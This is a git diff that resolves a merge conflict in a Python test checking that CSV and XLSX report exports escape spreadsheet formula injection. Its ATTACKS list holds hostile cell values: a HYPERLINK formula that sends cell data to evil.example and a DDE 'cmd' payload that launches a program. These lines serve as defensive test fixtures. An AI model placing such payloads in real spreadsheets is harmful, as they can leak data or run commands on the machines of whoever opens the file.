@@ -7,10 +7,7 @@ import pandas as pd
 import pytest
 
 from akimstat import publish
-<<<<<<< HEAD
 from akimstat.safe import FORMULA_START
-=======
->>>>>>> issue-17
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd", "\t=1", "\r=1"]
@@ -68,11 +65,7 @@ def test_csv_and_xlsx_cells_never_start_a_formula(hostile_save):
     assert [int(row["akims"]) for row in written] == frame["akims"].tolist()
     book = openpyxl.load_workbook(folder / "report.xlsx")
     cells = [c.value for row in book["districts"].iter_rows() for c in row if isinstance(c.value, str)]
-<<<<<<< HEAD
     assert not [c for c in cells if c.startswith(FORMULA_START)]
-=======
-    assert not [c for c in cells if c.startswith(publish.FORMULA_START)]
->>>>>>> issue-17
     assert any(c == "'" + ATTACKS[0] for c in cells)
     numbers = [c.value for c in book["districts"]["B"] if isinstance(c.value, int)]
     assert numbers == frame["akims"].tolist()
